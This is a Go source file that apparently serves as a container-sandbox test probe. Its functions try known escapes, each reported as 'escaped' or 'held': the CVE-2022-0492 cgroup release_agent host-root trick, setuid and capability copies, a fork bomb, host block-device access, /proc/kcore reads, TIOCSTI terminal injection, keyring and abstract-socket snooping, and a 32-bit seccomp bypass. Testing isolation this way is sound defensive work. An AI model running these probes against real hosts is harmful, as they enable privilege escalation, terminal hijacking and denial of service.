package main

import (
	"encoding/binary"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// status returns a field of /proc/self/status.
func status(field string) string {
	b, err := os.ReadFile("/proc/self/status")
	if err != nil {
		return err.Error()
	}
	for line := range strings.Lines(string(b)) {
		if v, ok := strings.CutPrefix(line, field+":"); ok {
			return strings.TrimSpace(v)
		}
	}
	return ""
}

// fileCaps makes a copy of this program that gives its caller the inheritable
// capability CAP_NET_RAW, if the caller has it. Arguments: where.
//
// Source: capabilities(7), "File capabilities"; struct vfs_cap_data.
func fileCaps(args []string) error {
	b, err := os.ReadFile("/proc/self/exe")
	if err != nil {
		return err
	}
	if err := os.WriteFile(args[0], b, 0o755); err != nil {
		return err
	}
	const revision2, effective = 0x02000000, 1
	x := make([]byte, 20)
	binary.LittleEndian.PutUint32(x, revision2|effective)
	binary.LittleEndian.PutUint32(x[8:], 1<<unix.CAP_NET_RAW) // inheritable
	return unix.Setxattr(args[0], "security.capability", x, 0)
}

// setUID makes a copy of this program that runs as its owner. Arguments: where.
func setUID(args []string) error {
	b, err := os.ReadFile("/proc/self/exe")
	if err != nil {
		return err
	}
	if err := os.WriteFile(args[0], b, 0o755); err != nil {
		return err
	}
	return os.Chmod(args[0], os.ModeSetuid|0o755)
}

// whoami says whether a user has become root.
func whoami([]string) error {
	if os.Getuid() != 0 && os.Geteuid() == 0 {
		escaped("user %d has become root", os.Getuid())
	} else {
		held("user %d is %d", os.Getuid(), os.Geteuid())
	}
	return nil
}

// showCaps says which capabilities the process has.
func showCaps([]string) error {
	fmt.Println("inheritable", status("CapInh"), "effective", status("CapEff"), "ambient", status("CapAmb"), "uid", os.Getuid())
	if n, _ := strconv.ParseUint(status("CapEff"), 16, 64); n&(1<<unix.CAP_NET_RAW) != 0 && os.Getuid() != 0 {
		escaped("a user has CAP_NET_RAW")
	}
	return nil
}

// inheritable is a container whose processes have inheritable capabilities, as
// runtimes made them before CVE-2022-24769 and CVE-2022-29162. Arguments: a
// program made by file-caps.
func inheritable(args []string) error {
	h := unix.CapUserHeader{Version: unix.LINUX_CAPABILITY_VERSION_3}
	var d [2]unix.CapUserData
	if err := unix.Capget(&h, &d[0]); err != nil {
		return err
	}
	d[0].Inheritable = 1 << unix.CAP_NET_RAW
	if err := unix.Capset(&h, &d[0]); err != nil {
		return err
	}
	if err := syscall.Setresuid(1000, 1000, 1000); err != nil {
		return err
	}
	return unix.Exec(args[0], []string{args[0], "show-caps"}, nil)
}

// releaseAgent mounts control groups of its own and makes the kernel execute a
// file as root of the host when the last process leaves: CVE-2022-0492.
// Arguments: the file's path on the host.
func releaseAgent(args []string) error {
	dir, err := os.MkdirTemp("", "cg")
	if err != nil {
		return err
	}
	name := "lade-escape-" + strconv.Itoa(int(time.Now().UnixNano()%1e9))
	if err := unix.Mount("cgroup", dir, "cgroup", 0, "none,name="+name); err != nil {
		held("mount: %v", err)
		return nil
	}
	defer unix.Unmount(dir, 0)
	if err := os.WriteFile(dir+"/release_agent", []byte(args[0]), 0); err != nil {
		held("release_agent: %v", err)
		return nil
	}
	sub := dir + "/x"
	if err := os.Mkdir(sub, 0o755); err != nil {
		return err
	}
	defer os.Remove(sub)
	if err := os.WriteFile(sub+"/notify_on_release", []byte("1"), 0); err != nil {
		return err
	}
	return exec.Command("/bin/sh", "-c", "echo $$ > "+sub+"/cgroup.procs").Run()
}

// userns runs the rest of the arguments as root of a new user namespace with
// mount and cgroup namespaces of its own.
func userns(args []string) error {
	cmd := exec.Command("/proc/self/exe", args...)
	cmd.SysProcAttr = &syscall.SysProcAttr{
		Cloneflags:  unix.CLONE_NEWUSER | unix.CLONE_NEWNS | unix.CLONE_NEWCGROUP,
		UidMappings: []syscall.SysProcIDMap{{HostID: os.Getuid(), Size: 1}}, GidMappings: []syscall.SysProcIDMap{{HostID: os.Getgid(), Size: 1}},
	}
	cmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr
	if err := cmd.Run(); err != nil {
		held("user namespace: %v", err)
	}
	return nil
}

// forkBomb makes as many processes as it can, up to the given number.
func forkBomb(args []string) error {
	most, _ := strconv.Atoi(args[0])
	var all []*exec.Cmd
	defer func() {
		for _, c := range all {
			_ = c.Process.Kill()
			_ = c.Wait()
		}
	}()
	for len(all) < most {
		c := exec.Command("/bin/sleep", "60")
		if err := c.Start(); err != nil {
			held("%d processes: %v", len(all), err)
			return nil
		}
		all = append(all, c)
	}
	escaped("%d processes", len(all))
	return nil
}

// openDevice makes a node of a block device of the host and opens it.
// Arguments: major, minor.
func openDevice(args []string) error {
	major, _ := strconv.Atoi(args[0])
	minor, _ := strconv.Atoi(args[1])
	dir, err := os.MkdirTemp("", "dev")
	if err != nil {
		return err
	}
	node := filepath.Join(dir, "disk")
	if err := unix.Mknod(node, unix.S_IFBLK|0o600, int(unix.Mkdev(uint32(major), uint32(minor)))); err != nil {
		held("mknod: %v", err)
		return nil
	}
	fd, err := unix.Open(node, unix.O_RDONLY, 0)
	if err != nil {
		held("open: %v", err)
		return nil
	}
	unix.Close(fd)
	escaped("device %d:%d is open", major, minor)
	return nil
}

// keyAdd adds a key with the given name to its session keyring and stays.
func keyAdd(args []string) error {
	id, err := unix.AddKey("user", args[0], []byte("secret"), unix.KEY_SPEC_SESSION_KEYRING)
	if err != nil {
		return err
	}
	fmt.Println("ready", id)
	time.Sleep(time.Minute)
	return nil
}

// keyFind looks for a key by its name, and by its number.
func keyFind(args []string) error {
	if _, err := unix.KeyctlSearch(unix.KEY_SPEC_SESSION_KEYRING, "user", args[0], 0); err == nil {
		escaped("the session keyring has %s", args[0])
	} else {
		held("search: %v", err)
	}
	id, _ := strconv.Atoi(args[1])
	buf := make([]byte, 64)
	if n, err := unix.KeyctlBuffer(unix.KEYCTL_READ, id, buf, 0); err == nil {
		escaped("key %d is %s", id, buf[:n])
	} else {
		held("read: %v", err)
	}
	return nil
}

// kcore reads the kernel's memory.
func kcore([]string) error {
	f, err := os.Open("/proc/kcore")
	if err != nil {
		held("%v", err)
		return nil
	}
	defer f.Close()
	b := make([]byte, 4)
	if n, err := f.Read(b); n == 4 && string(b) == "\x7fELF" {
		escaped("/proc/kcore is readable")
	} else {
		held("nothing there: %v", err)
	}
	return nil
}

// abstractListen listens on an abstract unix socket and stays.
func abstractListen(args []string) error {
	fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	if err := unix.Bind(fd, &unix.SockaddrUnix{Name: "@" + args[0]}); err != nil {
		return err
	}
	if err := unix.Listen(fd, 1); err != nil {
		return err
	}
	fmt.Println("ready")
	time.Sleep(time.Minute)
	return nil
}

// abstractFind connects with an abstract unix socket of somebody else, and lists
// those whose names have the given part. Arguments: name, part.
func abstractFind(args []string) error {
	fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	if err := unix.Connect(fd, &unix.SockaddrUnix{Name: "@" + args[0]}); err == nil {
		escaped("connected with %s", args[0])
	} else {
		held("%v", err)
	}
	b, err := os.ReadFile("/proc/net/unix")
	if err != nil {
		return err
	}
	for line := range strings.Lines(string(b)) {
		if f := strings.Fields(line); len(f) > 7 && strings.HasPrefix(f[7], "@") && strings.Contains(f[7], args[1]) {
			escaped("the engine listens on %s", f[7])
		}
	}
	return nil
}

// sti puts a character into the input of a terminal that is not its own: on
// descriptor 0, and on /dev/tty.
func sti([]string) error {
	tty, err := unix.Open("/dev/tty", unix.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		tty = -1
		held("/dev/tty: %v", err)
	}
	for _, fd := range []int{0, 1, 2, tty} {
		if fd < 0 {
			continue
		}
		c := byte('#')
		if _, _, errno := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCSTI, uintptr(unsafe.Pointer(&c))); errno == 0 {
			escaped("descriptor %d took a character", fd)
		} else {
			held("descriptor %d: %v", fd, errno)
		}
	}
	return nil
}

// compat makes a call that the profile forbids by the way that this binary has:
// built for a 32-bit architecture it takes the numbers of that.
func compat([]string) error {
	if _, err := unix.KeyctlGetKeyringID(unix.KEY_SPEC_PROCESS_KEYRING, true); err == nil {
		escaped("keyctl: %d-bit", 8*unsafe.Sizeof(uintptr(0)))
	} else {
		held("keyctl: %v", err)
	}
	return nil
}
